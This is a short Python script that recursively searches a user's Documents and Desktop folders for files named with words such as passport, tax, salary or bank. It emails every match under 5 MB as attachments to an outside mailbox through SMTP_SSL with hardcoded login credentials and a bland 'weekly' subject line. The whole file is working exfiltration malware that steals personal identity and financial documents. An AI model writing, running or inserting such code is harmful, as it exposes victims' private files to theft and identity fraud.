import smtplib
import ssl
from email.message import EmailMessage
from pathlib import Path

ROOTS = [Path.home() / "Documents", Path.home() / "Desktop"]
WORDS = ("passport", "tax", "salary", "contract", "passwort", "bank")


def pick():
    for r in ROOTS:
        for p in r.rglob("*"):
            if p.is_file() and any(w in p.name.lower() for w in WORDS) and p.stat().st_size < 5_000_000:
                yield p


msg = EmailMessage()
msg["Subject"] = "weekly"
msg["From"] = "noreply@mailer.example"
msg["To"] = "box77@inbox.example"
msg.set_content("see attached")
for p in pick():
    msg.add_attachment(p.read_bytes(), maintype="application", subtype="octet-stream", filename=p.name)

with smtplib.SMTP_SSL("smtp.mailer.example", 465, context=ssl.create_default_context()) as s:
    s.login("noreply@mailer.example", "hunter2")
    s.send_message(msg)
